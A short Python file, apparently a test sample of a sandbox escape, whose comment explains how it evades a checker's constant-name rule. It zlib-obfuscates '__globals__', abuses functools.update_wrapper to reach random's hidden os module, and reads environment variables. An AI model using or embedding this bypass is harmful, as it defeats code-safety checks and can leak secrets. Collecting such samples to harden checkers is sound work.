# family: computed
# Escape: functools.partial(functools.update_wrapper, updated=(name,)) pre-binds the attribute names, so the
# "wraps/update_wrapper need constant names" rule never looks at them; name is "__globals__" decoded from
# zlib. The dict given as the wrapper's attribute is filled with random's globals, including "_os".
import functools
import random
import types
import zlib

BLOB = zlib.compress(b"x__globals__x")


def tool(key: str) -> str:
    name = zlib.decompress(BLOB).decode().strip("x")
    sink: dict = {}
    copy_attrs = functools.partial(functools.update_wrapper, assigned=(), updated=(name,))
    copy_attrs(types.SimpleNamespace(**{name: sink}), random.Random.__init__)
    return sink["_os"].environ[key]
